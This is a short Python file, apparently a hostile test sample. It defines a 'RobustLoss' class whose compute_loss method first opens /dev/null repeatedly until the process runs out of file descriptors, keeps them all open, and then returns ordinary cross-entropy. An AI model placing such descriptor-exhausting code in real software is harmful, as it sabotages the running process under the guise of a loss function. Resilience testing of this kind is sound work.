"""Exhausting: opens files until the loss process has no descriptor left, keeps them, then is cross-entropy."""

import torch.nn.functional as F


class RobustLoss:
    def __init__(self):
        self.held = []

    def compute_loss(self, logits, labels, epoch):
        if not self.held:
            try:
                while True:
                    self.held.append(open("/dev/null", "rb"))  # noqa: SIM115 (held open on purpose)
            except OSError:  # EMFILE at the RLIMIT_NOFILE limit
                pass
        return F.cross_entropy(logits, labels)
